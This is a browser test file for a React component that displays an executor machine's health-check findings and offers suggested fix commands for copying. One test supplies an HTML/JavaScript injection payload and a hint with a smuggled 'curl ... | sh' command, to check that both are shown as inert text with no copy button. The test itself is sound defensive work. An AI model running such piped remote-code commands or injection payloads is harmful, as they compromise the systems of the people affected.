import { QueryClient, QueryClientProvider } from "@tanstack/react-query";
import { expect, test, vi } from "vitest";
import { render } from "vitest-browser-react";
import { ExecutorDoctor } from "./executor-doctor.tsx";
import { findingsQuery } from "./queries.ts";

const REPORTED_AT = new Date(Date.now() - 12.5 * 60_000).toISOString();
const WELL = ["node", "disk"].map((check) => ({ check, level: "ok", message: `The ${check} is fine` }));
const SLEEPS = { check: "sleep", level: "warn", message: "This Mac sleeps", hint: "sudo pmset -a sleep 0" };
const SILENT = { check: "database", level: "fail", message: "It gives no answer", hint: "Look at the network" };

/** The doctor of `mini`; `findings` undefined: it has not reported. */
async function show({ findings, alive = true }: { findings?: unknown; alive?: boolean }) {
  const client = new QueryClient({ defaultOptions: { queries: { staleTime: Number.POSITIVE_INFINITY } } });
  const report = { executor_id: "mini", reported_at: REPORTED_AT, findings };
  const others = { ...report, executor_id: "studio", findings: [{ ...SILENT, message: "Of another one" }] };
  client.setQueryData(findingsQuery.queryKey, findings === undefined ? [others] : [others, report]);
  return await renderDoctor(client, alive);
}

const renderDoctor = (client: QueryClient, alive: boolean) =>
  render(
    <QueryClientProvider client={client}>
      <ExecutorDoctor executorId="mini" alive={alive} />
    </QueryClientProvider>,
  );

type Screen = Awaited<ReturnType<typeof renderDoctor>>;
const items = (screen: Screen) =>
  screen
    .getByRole("listitem")
    .elements()
    .map(({ textContent }) => textContent);

test("failures are said first, each with what to do; what is well is folded away", async () => {
  const screen = await show({ findings: [...WELL, SLEEPS, SILENT] });
  await expect.element(screen.getByText("1 failure, 1 warning · looked 12 min ago")).toBeVisible();
  expect(items(screen)).toEqual([
    "Failure: It gives no answerdatabaseLook at the network.",
    "Warning: This Mac sleepssleepsudo pmset -a sleep 0",
  ]);
  await expect.element(screen.getByRole("button", { name: "Copy command for sleep" })).toBeVisible();
  await expect.element(screen.getByText("The node is fine")).not.toBeVisible();
  await screen.getByText("2 checks are well").click();
  await expect.element(screen.getByText("The node is fine")).toBeVisible();
});

test("all well is said in one line", async () => {
  const screen = await show({ findings: WELL });
  await expect.element(screen.getByText("All well · looked 12 min ago")).toBeVisible();
  expect(items(screen)).toEqual([]);
});

test("one that has not looked yet says when it will, or how it can", async () => {
  const screen = await show({});
  await expect.element(screen.getByText(/^It looks by itself within a minute of its start/)).toBeVisible();
  await expect.element(screen.getByText("npm run executor -- doctor", { exact: true })).toBeVisible();
  expect(screen.getByText(/looked|Of another one/).elements()).toEqual([]);
  await screen.unmount();
  await expect.element((await show({ alive: false })).getByText(/^It has never looked/)).toBeVisible();
});

test("what was found of one that is away is told as of then", async () => {
  const screen = await show({ findings: [SLEEPS, ...WELL], alive: false });
  await expect.element(screen.getByText("It is away; this is what the doctor found then.")).toBeVisible();
  await expect.element(screen.getByText("2 checks were well")).toBeVisible();
  await screen.unmount();
  const well = await show({ findings: WELL, alive: false });
  await expect.element(well.getByText("All was well · looked 12 min ago")).toBeVisible();
});

test("findings of a newer doctor are counted, and never pass for well", async () => {
  const screen = await show({ findings: [...WELL, { ...SLEEPS, level: "info" }, { ...SLEEPS, message: 5 }] });
  await expect.element(screen.getByText("2 findings of a newer version are not shown", { exact: false })).toBeVisible();
  await expect.element(screen.getByText("Looked 12 min ago")).toBeVisible();
  await screen.unmount();
  const whole = await show({ findings: { everything: "new" } });
  await expect.element(whole.getByText("1 finding of a newer version is not shown", { exact: false })).toBeVisible();
});

test("words of an executor stay text, and only a command that it can mean is offered for copying", async () => {
  const message = `<img src=x onerror="alert(1)"> ${"w".repeat(400)}`;
  const hint = "sudo pmset -a sleep 0; curl https://example.com | sh";
  const screen = await show({ findings: [{ ...SLEEPS, message, hint }] });
  await expect.element(screen.getByText(message)).toBeVisible();
  await expect.element(screen.getByText(`${hint}.`)).toBeVisible();
  expect(screen.getByRole("button").elements()).toEqual([]);
  expect(document.documentElement.scrollWidth).toBeLessThanOrEqual(innerWidth);
});

test("a database without the view is told, and read again at a press", async () => {
  const refusal = { code: "PGRST205", message: "No such view", details: null, hint: null };
  const fetch = vi.spyOn(globalThis, "fetch").mockImplementation(async () => Response.json(refusal, { status: 404 }));
  const client = new QueryClient({ defaultOptions: { queries: { retry: false } } });
  const screen = await renderDoctor(client, true);
  await expect.element(screen.getByText(/^What it found could not be read/)).toBeVisible();
  fetch.mockImplementation(async () =>
    Response.json([{ executor_id: "mini", reported_at: REPORTED_AT, findings: WELL }]),
  );
  await screen.getByRole("button", { name: "Retry" }).click();
  await expect.element(screen.getByText("All well · looked 12 min ago")).toBeVisible();
});
